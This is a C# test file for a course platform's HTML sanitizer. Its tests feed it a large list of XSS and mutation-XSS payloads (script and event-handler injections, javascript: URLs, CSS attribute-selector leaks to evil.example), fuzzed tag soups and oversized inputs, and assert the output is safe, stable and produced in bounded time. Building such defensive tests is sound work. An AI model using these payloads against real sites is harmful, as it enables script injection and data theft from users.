using System.Diagnostics;
using CsCheck;
using Xunit;

namespace Preau.Academy.Html;

public sealed class CourseHtmlAttackTests
{
    static readonly CourseHtmlOptions Options = new() { Scope = "b-1", RewriteUrl = url => url.StartsWith("/static/", StringComparison.Ordinal) ? $"/files{url[7..]}" : null };

    public static TheoryData<string> Vectors =>
    [
        // Scripts and handlers.
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/xss src=x>", "<<script>alert(1)//<</script>",
        "<script>a</script", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
        "<svg/onload=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
        "<p onpointerrawupdate=alert(1) ONCLICK=alert(1)>x</p>", "<img src onerror\u000c=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
        "<input autofocus onfocus=alert(1)>", "<a id=x tabindex=1 onfocusin=alert(1)>x</a>", "<xss contenteditable onbeforeinput=alert(1)>x",
        // Addresses.
        "<a href=javascript:alert(1)>x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>", "<a href=\"&#x6a;avascript&colon;alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>", "<a href=\"javascript&#58;alert(1)\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"view-source:javascript:alert(1)\">x</a>", "<a href=\"blob:https://x\">x</a>",
        "<a href=\"//evil.example\">x</a>", "<a href=\"/\\evil.example\">x</a>", "<a href=\"\\\\evil.example\">x</a>", "<a href=\"/%09/evil.example\">x</a>",
        "<a href=\"/\t/evil.example\">x</a>", "<a href=\"https:evil.example\">x</a>", "<a href=\"https://good.example@evil.example/\">x</a>",
        "<a href=\"filesystem:x\">x</a>", "<img src=\"/\t/evil.example/x.png\">", "<img src=\"http:evil.example/x\">", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\">",
        "<img srcset=\"//evil.example/x 1x\">", "<img src=/static/a.png srcset=\"/static/a.png 1x, https://evil.example/b 2x\">",
        "<video poster=\"https://evil.example/x\" src=/static/a.mp4></video>", "<table background=\"https://evil.example/x\"><tr><td background=//evil.example>x</table>",
        "<audio src=\"https://evil.example/a.mp3\" autoplay></audio>", "<area href=javascript:alert(1)>", "<map><area href=\"java\nscript:x\" shape=rect></map>",
        // Elements that take over.
        "<base href=https://evil.example/>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=prefetch href=//evil.example>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://evil.example\" onload=alert(1)></iframe>", "<object data=javascript:alert(1)></object>", "<object data=\"data:text/html,x\"></object>",
        "<embed src=\"//evil.example/x.swf\">", "<applet code=x></applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
        "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>", "<isindex action=javascript:alert(1) type=image>",
        "<portal src=https://evil.example>", "<dialog open>x</dialog>", "<plaintext><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>",
        // Foreign content.
        "<svg><script>alert(1)</script></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
        "<svg><set attributeName=onmouseover to=alert(1)></svg>", "<svg><use href=\"data:image/svg+xml,x#y\"></svg>", "<svg><style>*{background:url(//evil.example)}</style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math href=javascript:alert(1)><mi>x</mi></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><p><style><!--</style><img title=\"--><script>alert(1)</script>\">",
        "<math><mi><table><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
        "<template><script>alert(1)</script></template>", "<template><style></template><img src=x onerror=alert(1)>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
        "<select><template><style><!--</select><img src=x onerror=alert(1)>--></style>", "<style><!--</style><script>alert(1)</script>--></style>",
        "<p><svg><foreignObject><p><style><!--</style><p id=\"--><img src=x onerror=alert(1)>\">", "<svg><title><style><img title=\"</style><img src=x onerror=alert(1)>\">",
        "<table><td><a><table><td><a><table><td><a>x", "<a><svg><a>x", "<p><object><p><object><p>x", "<b><p></b><i></p></i><table><b><tr><td></b>x", "<h1><button><h2><marquee><h3>x",
        "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:alert(1)?>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)>", "</p title=\"<img src=x onerror=alert(1)>\">", "<a title='\"><img src=x onerror=alert(1)>'>x</a>", "<img alt=\"`><script>alert(1)</script>\">",
        "<p title=\"a&{alert(1)}\">x</p>", "<p id=\"x\0y\" title=\"\0\">\0<scr\0ipt>alert(1)</script>", "<p class=\"a\u2028b <x>\">\ud800x</p>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<pre>\n\n\n<b>\n</b></pre>", "<listing>\n\n<p>x</listing>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<p>\\(</p><script></script>\\)<!-- -->x\\)",
        // Styles.
        "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"background:url('https://evil.example/x')\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"behavior:url(x.htc)\">x</p>", "<p style=\"-moz-binding:url(//evil.example)\">x</p>", "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</p>",
        "<p style=\"pos\\69tion:f\\69xed\">x</p>", "<p style=\"color:red;}</style><script>alert(1)</script>\">x</p>", "<p style=\"content:'\\3c/style\\3e'\">x</p>",
        "<p style='font-family:\"\\\"}body{display:none\"'>x</p>", "<p style=\"background:u\\72l(//evil.example)\">x</p>", "<p style=\"background:image-set('//evil.example' 1x)\">x</p>",
        "<p style=\"@import '//evil.example'\">x</p>", "<p style=\"--x:url(//evil.example);background:var(--x)\">x</p>", "<p style=\"cursor:url(//evil.example),auto\">x</p>",
        "<p style=\"background:src('//evil.example')\">x</p>", "<p style=\"list-style:cross-fade(url(//evil.example),red)\">x</p>",
        "<style>@import '//evil.example';</style>", "<style>body{display:none}*{position:fixed}html{background:url(//evil.example)}</style><p>x</p>",
        "<style>@\\69mport url(//evil.example);p{color:red}</style><p>x</p>", "<style>p{color:red}/*</style><script>alert(1)</script>*/", "<style>p{}@media{</style><p>x",
        "<style>@media x{p{color:red}}}p{top:0}}}*{left:0}</style><p>x", "<style>:host,::slotted(p),:root>*,body+p,p~html{color:red}</style><p>x", "<style>p:not(a,b{color:red}</style><p>x",
        "<style>input[value^=a]{background:url(//evil.example/a)}p[title^=b]{background:url(//evil.example/b)}</style><p title=b>x", "<style>p{background:url(\"//evil.example</style><p>x",
        "<style>@namespace x url(//evil.example);x|p{color:red}</style><p>x", "<style>@layer a{p{position:fixed}}@container (width>0){p{top:0}}@scope (body){p{top:0}}</style><p>x",
        "<style>p{color:red;;;;{}{}[(]}q{left:0}</style><p><q>x", "<style>\\2e-1{color:red}</style><p>x", "<style>p{width:calc(1px*(1000*(1000)))}</style><p>x", "<style>.\\{\\}\\<x{color:red}</style><p class=\"{}<x\">x",
        "<style>@supports (a:url(//evil.example)){p{color:red}}@media (a<b){p{top:0}}</style><p>x",
    ];

    [Theory]
    [MemberData(nameof(Vectors))]
    public void An_attack_comes_out_harmless(string html)
    {
        foreach (var nested in (string[])[html, $"<p>a{html}b</p>", $"<table><tr><td>{html}</table>", $"<svg>{html}</svg>", $"<math><mtext>{html}", $"<div title=\"{html.Replace("\"", "&quot;", StringComparison.Ordinal)}\">{html}"])
        {
            var clean = CourseHtml.Clean(nested, Options);
            SafeHtmlAssert.IsSafe(clean, nested);
            Assert.Equal(clean.Html, CourseHtml.Clean(clean.Html, Options).Html);
            Assert.DoesNotContain("evil.example", clean.Css, StringComparison.Ordinal);
        }
    }

    internal static readonly string[] Pieces =
    [
        "<p>", "</p>", "<div>", "</div>", "<a href=/x>", "<a href=javascript:x>", "</a>", "<b>", "</b>", "<i class=x>", "</i>", "<table>", "</table>", "<tr>", "<td>", "</td>", "<th>", "<caption>",
        "<ul>", "<li>", "</ul>", "<dl>", "<dt>", "<dd>", "<svg>", "</svg>", "<math>", "</math>", "<mi>", "<mtext>", "<mglyph>", "<annotation-xml encoding=text/html>", "<foreignObject>", "<desc>",
        "<title>", "</title>", "<style>", "</style>", "<script>", "</script>", "<noscript>", "</noscript>", "<template>", "</template>", "<select>", "<option>", "</select>", "<button>", "</button>",
        "<form>", "</form>", "<input>", "<textarea>", "</textarea>", "<h1>", "</h1>", "<h3>", "</h3>", "<pre>", "</pre>", "\n", "<xmp>", "</xmp>", "<plaintext>", "<object>", "</object>", "<marquee>", "</marquee>",
        "<iframe src=//e.example>", "</iframe>", "<img src=/static/x.png>", "<img src=//e.example/x.png>", "<br>", "<nobr>", "<font color=red>", "</font>", "<main>", "</main>", "<frameset>", "<body>", "</body>", "<html>",
        "<!--", "-->", "<![CDATA[", "]]>", "<?x", "text", " ", "&lt;", "&amp;", "\\(", "\\)", "$$", "\"", "'", "<p title=\"", "<p style=\"color:red;position:fixed\">", "<x onclick=y>", "</x>", "<video src=/static/v>", "</video>",
        "<ruby>", "<rt>", "</ruby>", "<details>", "<summary>", "</details>", "<fieldset>", "<legend>", "<picture>", "<colgroup>", "<col>", "<hr>", "<span class=math>", "<div class=table-scroll>", "\0", "\r",
    ];

    [Fact]
    public void Whatever_the_soup_it_comes_out_safe_and_stays_as_it_is() =>
        Gen.Int[0, Pieces.Length - 1].Array[0, 40].Sample(
            picks =>
            {
                var html = string.Concat(picks.Select(pick => Pieces[pick]));
                var clean = CourseHtml.Clean(html, Options);
                SafeHtmlAssert.IsSafe(clean, html);
                Assert.Equal(clean.Html, CourseHtml.Clean(clean.Html, Options).Html);
            },
            iter: 2000);

    internal static readonly string[] CssPieces =
    [
        "p", "body", ":root", "*", " ", ">", "+", "~", ",", ".x", "#y", "[title]", "[", "]", ":not(", ":is(", ":has(", ")", "(", "{", "}", ";", ":", "color:red", "position:fixed", "position:absolute", "z-index:9999",
        "url(", "url('//e.example')", "\"", "'", "\\", "\\3c ", "</style", "<!--", "/*", "*/", "@media", "@import", "@supports", "screen", "!important", "calc(", "1px", "99999px", "*", "var(--x)", "--x:", "::before", ":hover", "&", "\n", "#fff", "<", "\0",
    ];

    [Fact]
    public void Whatever_the_style_it_stays_in_its_scope() =>
        Gen.Int[0, CssPieces.Length - 1].Array[0, 40].Sample(
            picks =>
            {
                var css = string.Concat(picks.Select(pick => CssPieces[pick]));
                SafeHtmlAssert.IsSafe(CourseHtml.Clean($"<style>p{{{css}}}{css}</style><p class=x id=y title=z style=\"{css.Replace("\"", "&quot;", StringComparison.Ordinal)}\">a</p>", Options), css);
            },
            iter: 2000);

    public static TheoryData<string, string, int> Costly => new()
    {
        { "deep", "<div>", 400_000 },
        { "unclosed spans and strange ends", "<span></x>", 200_000 },
        { "paragraphs in deep blocks", "<div></p>", 200_000 },
        { "quotes", "<blockquote><p>", 130_000 },
        { "links", "<a href=x><div>", 130_000 },
        { "tables", "<table><td>", 180_000 },
        { "templates", "<template>", 200_000 },
        { "drawings", "<svg><g>", 250_000 },
        { "drawn shapes", "<path/>", 290_000 },
        { "formulas", "<math><mi>", 200_000 },
        { "choices", "<select><option>", 130_000 },
        { "entities", "&notit;", 290_000 },
        { "comments", "<!--x-->", 260_000 },
        { "open formulas", "\\(", 1_000_000 },
        { "open brackets", "[mathjax]", 230_000 },
        { "open tags", "<", 2_000_000 },
        { "forms that stay open", "<form><table></form></table></form>", 60_000 },
        { "pictures", "<img src=/static/a>", 110_000 },
    };

    [Theory]
    [MemberData(nameof(Costly))]
    public void A_costly_page_is_cut_or_read_in_bounded_time(string what, string piece, int times) => IsBounded(what, string.Concat(Enumerable.Repeat(piece, times)));

    [Fact]
    public void Formatting_left_open_does_not_multiply()
    {
        var open = string.Concat(Enumerable.Range(0, 30_000).Select(i => $"<div><b a={i}></div>"));
        Assert.True(IsBounded("formatting", $"{open}{string.Concat(Enumerable.Repeat("<p>x", 100_000))}").Notes.HasFlag(HtmlNotes.Cut));
    }

    [Fact]
    public void A_thousand_attributes_are_a_hundred() =>
        IsBounded("attributes", $"<p {string.Concat(Enumerable.Range(0, 300_000).Select(i => $"a{i}=1 "))}>x</p>");

    [Theory]
    [InlineData("calc(", 300_000)]
    [InlineData("{", 1_000_000)]
    [InlineData("@media x{", 200_000)]
    [InlineData("p:not(", 300_000)]
    [InlineData("p,", 500_000)]
    [InlineData("p ", 500_000)]
    [InlineData("p{top:0}", 200_000)]
    [InlineData("p{a:'", 300_000)]
    [InlineData("/*", 900_000)]
    [InlineData("\\", 1_000_000)]
    public void A_costly_style_is_read_in_bounded_time(string piece, int times) => IsBounded(piece, $"<style>{string.Concat(Enumerable.Repeat(piece, times))}</style><p>x</p>");

    [Fact]
    public void A_page_beyond_the_longest_is_cut_and_says_so()
    {
        var clean = IsBounded("long", string.Concat(Enumerable.Repeat("<p>word</p>", 400_000)));
        Assert.True(clean.Notes.HasFlag(HtmlNotes.Cut));
        Assert.StartsWith("<p>word</p>", clean.Html, StringComparison.Ordinal);
    }

    [Fact]
    public void A_deep_page_keeps_its_words()
    {
        var clean = CourseHtml.Clean($"{string.Concat(Enumerable.Repeat("<div>", 500))}word{string.Concat(Enumerable.Repeat("</div>", 500))}<p>after</p>", Options);
        Assert.Contains("word", clean.Html, StringComparison.Ordinal);
        Assert.Contains("after", clean.Html, StringComparison.Ordinal);
        Assert.True(clean.Notes.HasFlag(HtmlNotes.Cut));
    }

    static SafeHtml IsBounded(string what, string html)
    {
        var watch = Stopwatch.StartNew();
        var clean = CourseHtml.Clean(html, Options);
        // Generous: the machine that runs the tests may be busy. Without a bound these take hours.
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(60), $"{what}: {watch.Elapsed}");
        TestContext.Current.SendDiagnosticMessage($"{what}: {watch.ElapsedMilliseconds} ms, {clean.Notes}");
        return clean;
    }
}
